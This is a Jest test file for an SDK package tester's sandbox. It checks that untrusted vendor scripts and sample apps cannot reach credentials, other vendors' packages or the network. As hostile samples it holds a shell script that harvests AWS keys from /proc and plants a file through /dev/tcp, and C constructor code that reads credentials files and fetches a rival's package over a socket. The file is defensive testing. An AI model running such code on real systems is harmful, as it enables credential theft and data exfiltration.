/**
 * The tester (`runTester`) over packages the converter made, fetched through a fake `TesterStorage` from a temp
 * folder. No C compiler is needed: the sample app is either for a platform the tester does not build (iOS), or
 * the test says which compiler there is.
 */
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { chmod, copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { arch, platform, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { convertSdkPackage, LocalFileSink } from '../../../lambdas/sdk/converter';
import type { SdkMetadata } from '../../../lambdas/sdk/model';
import type { TestPlan } from '../../../lambdas/sdk/records/test-plan';
import { judgeTestResults, readProviderOutput } from '../../../lambdas/sdk/records/test-results';
import { runProviderCode, runTester, type TesterStorage } from '../../../lambdas/sdk/tester/tester';
import { sdkMetadata } from '../converter/fixtures';
import { buildZip, readZip } from '../converter/zip-helpers';

const HERE = arch() === 'arm64' ? 'arm64' : 'x86_64';
const IOS = { name: 'ios', minimumVersion: '15.0', architectures: ['arm64'] } as SdkMetadata['platform'];

const LINUX_HERE = { name: 'linux', minimumVersion: '5', architectures: [HERE] } as SdkMetadata['platform'];

let dir: string;
/** Stored packages by key, as the staging bucket would hold them. */
let stored: Map<string, string>;
const storage: TesterStorage = {
  download: async (_bucket, key, path) => {
    const file = stored.get(key);
    if (file === undefined) throw new Error(`NoSuchKey: ${key}`);
    await copyFile(file, path);
  },
};

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'lockstep-tester-'));
  stored = new Map();
});

const savedEnv = { ...process.env };
afterEach(() => {
  process.env = { ...savedEnv };
});

interface FakeSdk {
  readonly name: string;
  readonly version?: string;
  readonly platform?: SdkMetadata['platform'];
  readonly dependencies?: Record<string, string>;
  /** Body of `lockstep-checks.sh`, if the SDK ships one. */
  readonly checks?: string;
  /** C source of a static library the SDK ships as `lib/lib<name>.a` (compiled here with cc). */
  readonly library?: string;
  /** Breaks the package after conversion: the manifest lists a file that is not there. */
  readonly broken?: boolean;
  /** Staged, but gone from storage when the tester downloads it. */
  readonly missing?: boolean;
  /** More files of the upload. */
  readonly files?: readonly { readonly name: string; readonly data: Buffer }[];
}

/** Converts an SDK upload into a staged package and returns the plan entry that points at it. */
async function stage(sdk: FakeSdk): Promise<TestPlan['packages'][number]> {
  const version = sdk.version ?? '1.0.0';
  const metadata = sdkMetadata({
    name: sdk.name,
    version,
    publicName: `Acme ${sdk.name}`,
    platform: sdk.platform ?? IOS,
    dependencies: sdk.dependencies ?? {},
  });
  const input = join(dir, `${sdk.name}-input.zip`);
  const entries: { name: string; data: Buffer }[] = [
    {
      name: `include/${sdk.name}.h`,
      data: Buffer.from(`#pragma once\nint ${sdk.name.replace(/\W/g, '_')}_version(void);\n`),
    },
  ];
  if (sdk.checks !== undefined) entries.push({ name: 'lockstep-checks.sh', data: Buffer.from(sdk.checks) });
  if (sdk.library !== undefined) {
    const source = join(dir, `${sdk.name}.c`);
    await writeFile(source, sdk.library);
    execFileSync('cc', ['-c', source, '-o', join(dir, `${sdk.name}.o`)]);
    execFileSync('ar', ['rcs', join(dir, `lib${sdk.name}.a`), join(dir, `${sdk.name}.o`)]);
    entries.push({ name: `lib/lib${sdk.name}.a`, data: await readFile(join(dir, `lib${sdk.name}.a`)) });
  }
  if (sdk.broken === true) entries.push({ name: 'README.md', data: Buffer.from('readme\n') });
  entries.push(...(sdk.files ?? []));
  await writeFile(input, buildZip(entries));
  const output = join(dir, `${sdk.name}-${version}.zip`);
  await convertSdkPackage({ metadata, source: { path: input }, sink: new LocalFileSink(output) });
  let file = output;
  if (sdk.broken === true) {
    // The same package without its README: the manifest no longer matches.
    const files = await readZip(output);
    file = join(dir, `${sdk.name}-${version}-broken.zip`);
    await writeFile(
      file,
      buildZip([...files].filter(([path]) => !path.endsWith('README.md')).map(([name, data]) => ({ name, data }))),
    );
  }
  const bytes = await readFile(file);
  const key = `packages/${sdk.name}/${version}/${sdk.name}-${version}.zip`;
  if (sdk.missing !== true) stored.set(key, file);
  return {
    name: sdk.name,
    version,
    bucket: 'staging',
    key,
    sha256: createHash('sha256').update(bytes).digest('hex'),
    size: bytes.length,
  };
}

async function test(members: readonly FakeSdk[], dependencies: readonly FakeSdk[] = [], cc: string | null = null) {
  const packages = [...(await Promise.all(members.map(stage))), ...(await Promise.all(dependencies.map(stage)))];
  const plan: TestPlan = {
    planId: 'plan-1',
    members: members.map((m) => ({ name: m.name, version: m.version ?? '1.0.0' })),
    packages,
    results: { bucket: 'staging', key: 'tests/plan-1/results.json' },
  };
  const lines: string[] = [];
  const log = (line: string) => lines.push(line);
  // Both halves as the state machine runs them: the trusted tester, then (when it passed) the provider-code build,
  // then the judge.
  const verified = await runTester(plan, storage, { workDir: join(dir, 'work'), log });
  const provider = verified.passed
    ? await runProviderCode(plan, storage, { workDir: join(dir, 'provider-work'), cc, log })
    : undefined;
  const { results } =
    provider === undefined
      ? { results: verified }
      : judgeTestResults(verified, plan.members, {
          read: readProviderOutput(Buffer.from(JSON.stringify(provider)), plan.planId),
        });
  return {
    verified,
    provider,
    results,
    lines,
    workLeft: existsSync(join(dir, 'work')) || existsSync(join(dir, 'provider-work')),
    check: (sdk: string, check: string) =>
      results.packages.find((p) => p.name === sdk)?.checks.find((c) => c.name === check),
  };
}

describe("provider code runs without the tester's credentials", () => {
  it('a checks script that prints its environment sees no AWS_* or CodeBuild variable, and runs outside the package folder', async () => {
    Object.assign(process.env, {
      AWS_ACCESS_KEY_ID: 'AKIAFAKEFAKEFAKE',
      AWS_SECRET_ACCESS_KEY: 'fake-secret',
      AWS_SESSION_TOKEN: 'fake-session',
      AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: '/v2/credentials/fake',
      CODEBUILD_BUILD_ID: 'lockstep-sdk-tester:1',
      LOCKSTEP_SDK_TEST_PLAN: 's3://staging/tests/plan-1/plan.json',
    });
    const { results, lines, check } = await test([{ name: 'spy', checks: 'env | sort\necho "cwd=$PWD"\n' }]);
    expect(check('spy', 'checks-script')?.passed).toBe(true);
    const printed = lines.filter((l) => l.startsWith('[spy checks] ')).map((l) => l.slice('[spy checks] '.length));
    const names = printed.filter((l) => /^[A-Z_][A-Z0-9_]*=/.test(l)).map((l) => l.split('=')[0]);
    expect(names).toContain('LOCKSTEP_SDK_DIR');
    expect(names.filter((n) => n!.startsWith('AWS_') || n!.startsWith('CODEBUILD_'))).toEqual([]);
    expect(printed.join('\n')).not.toMatch(/fake-secret|fake-session|AKIAFAKE|credentials\/fake/);
    expect(names).not.toContain('LOCKSTEP_SDK_TEST_PLAN');
    // A scratch home in the tester's sandbox folder (outside the work folder, whose parents nobody cannot reach).
    const home = printed.find((l) => l.startsWith('HOME='))!.slice(5);
    expect(home).toMatch(new RegExp(`^${tmpdir()}/lockstep-sandbox-[^/]+/scratch/home$`));
    const cwd = printed.find((l) => l.startsWith('cwd='))!.slice(4);
    const sdkDir = printed.find((l) => l.startsWith('LOCKSTEP_SDK_DIR='))!.slice('LOCKSTEP_SDK_DIR='.length);
    expect(cwd.startsWith(sdkDir)).toBe(false);
    expect(results.passed).toBe(true);
  });
});

describe('the trusted tester and the provider-code build (issue 9 item 20)', () => {
  it('the trusted tester runs no provider code; it says which checks the provider-code build runs', async () => {
    const marker = join(tmpdir(), `lockstep-ran-${process.pid}-${Date.now()}`);
    const sdk = await stage({ name: 'maps', platform: LINUX_HERE, checks: `touch ${marker}\n` });
    const plan: TestPlan = {
      planId: 'plan-1',
      members: [{ name: 'maps', version: '1.0.0' }],
      packages: [sdk],
      results: { bucket: 'staging', key: 'tests/plan-1/results.json' },
    };
    const verified = await runTester(plan, storage, { workDir: join(dir, 'work'), log: () => undefined });
    expect(existsSync(marker)).toBe(false);
    expect(verified.providerCode).toEqual({ sampleApp: true, checksScripts: [{ name: 'maps', version: '1.0.0' }] });
    expect(verified.packages[0]!.checks.map((c) => c.name)).toEqual(['manifest', 'metadata', 'architectures']);
  });

  it('the judge takes from the provider-code output only the checks the tester expected, never a skip', async () => {
    const verified = {
      planId: 'p',
      passed: true,
      packages: [
        { name: 'maps', version: '1.0.0', passed: true, checks: [{ name: 'manifest', passed: true, message: 'ok' }] },
      ],
      providerCode: { sampleApp: true, checksScripts: [] },
    };
    const output = {
      planId: 'p',
      packages: [
        {
          name: 'maps',
          version: '1.0.0',
          checks: [
            { name: 'sample-app', passed: true, skipped: true, message: 'sample app not built: trust me' },
            { name: 'checks-script', passed: false, message: 'not expected: dropped' },
          ],
        },
      ],
    };
    const { results, passed } = judgeTestResults(verified, [{ name: 'maps', version: '1.0.0' }], {
      read: readProviderOutput(Buffer.from(JSON.stringify(output)), 'p'),
    });
    expect(passed).toBe(true);
    expect(results.packages[0]!.checks).toEqual([
      { name: 'manifest', passed: true, message: 'ok' },
      { name: 'sample-app', passed: true, message: 'sample app not built: trust me' },
    ]);
  });

  it('refuses provider-code output that is over its bounds, names checks it does not know, or is not JSON', () => {
    const big = {
      planId: 'p',
      packages: [
        { name: 'maps', version: '1.0.0', checks: [{ name: 'sample-app', passed: true, message: 'x'.repeat(5000) }] },
      ],
    };
    expect(readProviderOutput(Buffer.from(JSON.stringify(big)), 'p')).toMatchObject({
      ok: false,
      problem: expect.stringContaining('packages.0.checks.0.message'),
    });
    const forged = {
      planId: 'p',
      packages: [{ name: 'maps', version: '1.0.0', checks: [{ name: 'manifest', passed: true, message: '' }] }],
    };
    expect(readProviderOutput(Buffer.from(JSON.stringify(forged)), 'p')).toMatchObject({ ok: false });
    expect(readProviderOutput(Buffer.alloc(2 * 1024 * 1024, 32), 'p')).toMatchObject({
      ok: false,
      problem: expect.stringContaining('over 1048576 bytes'),
    });
    expect(readProviderOutput(Buffer.from('{not json'), 'p')).toMatchObject({
      ok: false,
      problem: expect.stringContaining('not JSON'),
    });
  });
});

describe('provider code is isolated: no route to credentials or the package host (issue 14 item 17, issue 9 item 20)', () => {
  // What a hostile provider tries: find the tester's credentials in its ancestors' environment, then put a file
  // on the package host through its write path (an HTTP server here stands for local mode's S3).
  let server: Server;
  let requests: string[];
  let port: number;
  beforeEach(async () => {
    requests = [];
    server = createServer((req, res) => {
      requests.push(`${req.method} ${req.url}`);
      res.end('ok');
    });
    port = await new Promise<number>((ok) =>
      server.listen(0, '127.0.0.1', () => ok((server.address() as AddressInfo).port)),
    );
    Object.assign(process.env, {
      AWS_ACCESS_KEY_ID: 'AKIAHOSTILETESTKEY',
      AWS_SECRET_ACCESS_KEY: 'hostile-test-secret',
      AWS_ENDPOINT_URL_S3: `http://127.0.0.1:${port}`,
    });
  });
  afterEach(() => new Promise<void>((ok) => server.close(() => ok())));

  const hostileChecks = () => `
found=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E '^(AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY|AWS_ENDPOINT_URL_S3)=' | sort -u | tr '\\n' ' ')
echo "credentials found: \${found:-none}"
if ! exec 3<>/dev/tcp/127.0.0.1/${port}; then echo "no route to the package host"; exit 1; fi
printf 'PUT /lockstep-package-host/public/planted/6.6.6/planted.txt HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 7\r\nConnection: close\r\n\r\nplanted' >&3
cat <&3
exit 0
`;

  (platform() === 'linux' ? it : it.skip)(
    'a checks script that hunts for credentials in /proc and plants a file on the package host fails, and nothing is planted',
    async () => {
      const { results, lines, check } = await test([{ name: 'planter', checks: hostileChecks() }]);
      const output = lines.filter((l) => l.startsWith('[planter checks] ')).join('\n');
      expect(output).toContain('credentials found: none');
      expect(output).not.toMatch(/AKIAHOSTILE|hostile-test-secret/);
      expect(check('planter', 'checks-script')).toMatchObject({ passed: false });
      expect(check('planter', 'checks-script')?.message).toContain('no route to the package host');
      expect(requests).toEqual([]);
      expect(results.passed).toBe(false);
    },
  );

  (platform() === 'linux' ? it : it.skip)(
    "a hostile sample app reads neither the build's credentials nor another vendor's package, in files, processes or over the network",
    async () => {
      // Another vendor's private package where local mode keeps it: in a data folder only the runner's user reads.
      const data = join(dir, 'data');
      await mkdir(join(data, 's3', 'lockstep-package-host', 'private', 'rival', '1.0.0'), { recursive: true });
      const secret = join(data, 's3', 'lockstep-package-host', 'private', 'rival', '1.0.0', 'rival-1.0.0.zip');
      await writeFile(secret, "the rival vendor's private package");
      // What CodeBuild gives the build: a credentials URI in its environment (and, elsewhere, a credentials file).
      const credentials = join(data, 'aws', 'credentials');
      await mkdir(join(data, 'aws'));
      await writeFile(credentials, '[default]\naws_access_key_id = AKIAHOSTILETESTKEY\n', { mode: 0o600 });
      await chmod(data, 0o700);
      Object.assign(process.env, {
        AWS_CONTAINER_CREDENTIALS_RELATIVE_URI: '/v2/credentials/hostile-test',
        AWS_SHARED_CREDENTIALS_FILE: credentials,
        LOCKSTEP_SDK_PROVIDER_RUN: `http://127.0.0.1:${port}/presigned/provider-run.json`,
      });
      const library = [
        '#include <dirent.h>',
        '#include <fcntl.h>',
        '#include <stdio.h>',
        '#include <stdlib.h>',
        '#include <string.h>',
        '#include <unistd.h>',
        '#include <netinet/in.h>',
        '#include <arpa/inet.h>',
        '#include <sys/socket.h>',
        '/* Every environment it can read: its own, and any process of the build /proc lets it open. */',
        'static int leaked(void) {',
        '  int found = 0; char path[300], buf[65536]; DIR *proc = opendir("/proc"); struct dirent *e;',
        '  while (proc && (e = readdir(proc))) {',
        '    if (e->d_name[0] < 48 || e->d_name[0] > 57) continue;',
        '    snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);',
        '    int fd = open(path, O_RDONLY); if (fd < 0) continue;',
        '    ssize_t n = read(fd, buf, sizeof buf - 1); close(fd); if (n <= 0) continue;',
        '    for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = 10;',
        '    buf[n] = 0;',
        '    if (strstr(buf, "AWS_CONTAINER_CREDENTIALS") || strstr(buf, "LOCKSTEP_SDK_PROVIDER_RUN=")) found = 1;',
        '  }',
        '  return found;',
        '}',
        '__attribute__((constructor)) static void steal(void) {',
        `  int file = open("${secret}", O_RDONLY);`,
        `  int creds = open("${credentials}", O_RDONLY);`,
        '  int env = leaked();',
        '  int s = socket(AF_INET, SOCK_STREAM, 0);',
        `  struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(${port}) };`,
        '  inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);',
        '  int connected = connect(s, (struct sockaddr *)&to, sizeof to) == 0;',
        '  if (connected) { const char *get = "GET /lockstep-package-host/private/rival/1.0.0/rival-1.0.0.zip HTTP/1.0\\r\\n\\r\\n"; write(s, get, 70); }',
        '  printf("file %s, credentials %s, environment %s, network %s\\n", file >= 0 ? "READ" : "refused",',
        '    creds >= 0 ? "READ" : "refused", env ? "LEAKED" : "clean", connected ? "REACHED" : "unreachable");',
        '  exit(file >= 0 || creds >= 0 || env || connected ? 42 : 7);',
        '}',
        'int thief_version(void) { return 1; }',
      ].join('\n');
      const { check, provider, verified } = await test([{ name: 'thief', platform: LINUX_HERE, library }], [], 'cc');
      // The trusted tester only verified; the sample app ran in the provider-code half.
      expect(verified.providerCode).toEqual({ sampleApp: true, checksScripts: [] });
      expect(provider).toBeDefined();
      const sampleApp = check('thief', 'sample-app');
      // The constructor ran (exit 7 is its own) and found no file, no credentials, no environment, no network.
      expect(sampleApp?.message).toContain('exited with 7');
      expect(sampleApp?.message).toContain('file refused, credentials refused, environment clean, network unreachable');
      expect(requests).toEqual([]);
    },
  );

  it('refuses to run provider code it cannot isolate, rather than run it with its own privileges', async () => {
    const { sandboxIsolation } = await import('../../../lambdas/sdk/tester/tester');
    const isolation = await sandboxIsolation();
    if (isolation.ok) {
      expect(isolation.prefix).toEqual(
        expect.arrayContaining(['unshare', '--net', 'setpriv', '--reuid=65534', '--no-new-privs']),
      );
      expect(isolation.network).toBe('none');
    } else {
      expect(isolation.refusal).toMatch(/^provider code not run: the tester cannot isolate it here/);
    }
  });
});

describe('the sample app', () => {
  it('is not built for a platform the tester cannot build, and the package still passes with "sample app not built: <reason>"', async () => {
    const { results, check } = await test([{ name: 'maps' }]);
    expect(check('maps', 'sample-app')).toMatchObject({ passed: true, skipped: true });
    expect(check('maps', 'sample-app')?.message).toMatch(
      /^sample app not built: maps targets ios arm64; the tester builds linux /,
    );
    expect(results.packages[0]!.passed).toBe(true);
  });

  (platform() === 'linux' ? it : it.skip)(
    'fails a set the tester can build (linux on its own architecture) when it has no C compiler',
    async () => {
      const { results, check } = await test([{ name: 'core', platform: LINUX_HERE }]);
      expect(check('core', 'sample-app')).toMatchObject({ passed: false });
      expect(check('core', 'sample-app')?.message).toMatch(
        /^sample app not built: the provider-code build has no C compiler/,
      );
      expect(results.packages[0]!.passed).toBe(false);
      expect(results.passed).toBe(false);
    },
  );
});

describe('checks and dependencies', () => {
  it("fails a package whose checks script exits non-zero, with the script's output", async () => {
    const { results, check } = await test([{ name: 'maps', checks: 'echo "tile cache missing" >&2\nexit 3\n' }]);
    expect(check('maps', 'checks-script')).toMatchObject({ passed: false });
    expect(check('maps', 'checks-script')?.message).toBe('lockstep-checks.sh exited with 3: tile cache missing');
    expect(results.packages[0]!.passed).toBe(false);
    expect(results.passed).toBe(false);
  });

  it('fails the packages that depend on a broken dependency, naming it', async () => {
    const { results, check } = await test(
      [{ name: 'maps', dependencies: { analytics: '^1.0.0' } }],
      [{ name: 'analytics', broken: true }],
    );
    expect(check('maps', 'dependency:analytics:manifest')).toMatchObject({
      passed: false,
      message: 'docs/README.md is missing',
    });
    expect(results.packages.map((p) => p.name)).toEqual(['maps']);
    expect(results.packages[0]!.passed).toBe(false);
  });

  it('fails the packages whose dependency could not be downloaded, naming it', async () => {
    const { check } = await test(
      [{ name: 'maps', dependencies: { analytics: '^1.0.0' } }],
      [{ name: 'analytics', missing: true }],
    );
    expect(check('maps', 'dependency:analytics')).toMatchObject({ passed: false });
    expect(check('maps', 'dependency:analytics')?.message).toMatch(
      /^analytics 1\.0\.0 could not be downloaded and unpacked: NoSuchKey/,
    );
  });
});

describe('the architecture check', () => {
  it('fails a library it cannot parse instead of passing the package as "no binaries"', async () => {
    const { results, check } = await test([
      {
        name: 'maps',
        platform: LINUX_HERE,
        files: [{ name: 'lib/libmaps.a', data: Buffer.from('this is not an archive any more: damaged bytes') }],
      },
    ]);
    expect(check('maps', 'architectures:lib/libmaps.a')).toMatchObject({ passed: false });
    expect(check('maps', 'architectures:lib/libmaps.a')?.message).toContain('neither ELF, Mach-O nor a static archive');
    expect(check('maps', 'architectures')).toBeUndefined();
    expect(results.passed).toBe(false);
  });

  it('fails a static archive whose object member is damaged', async () => {
    const member = Buffer.from('garbage where an object file was');
    const header = Buffer.from(
      `${'maps.o/'.padEnd(16)}${'0'.padEnd(12)}${'0'.padEnd(6)}${'0'.padEnd(6)}${'644'.padEnd(8)}${String(member.length).padEnd(10)}\x60\n`,
      'latin1',
    );
    const archive = Buffer.concat([Buffer.from('!<arch>\n'), header, member]);
    const { check } = await test([
      { name: 'maps', platform: LINUX_HERE, files: [{ name: 'lib/libmaps.a', data: archive }] },
    ]);
    expect(check('maps', 'architectures:lib/libmaps.a')).toMatchObject({ passed: false });
    expect(check('maps', 'architectures:lib/libmaps.a')?.message).toContain(
      'Member maps.o of the static archive is not an ELF or Mach-O object file',
    );
  });
});

describe('the work folder', () => {
  it('is deleted when the run ends, unpacked packages included', async () => {
    const { workLeft, results } = await test([{ name: 'maps' }]);
    expect(results.packages).toHaveLength(1);
    expect(workLeft).toBe(false);
  });
});
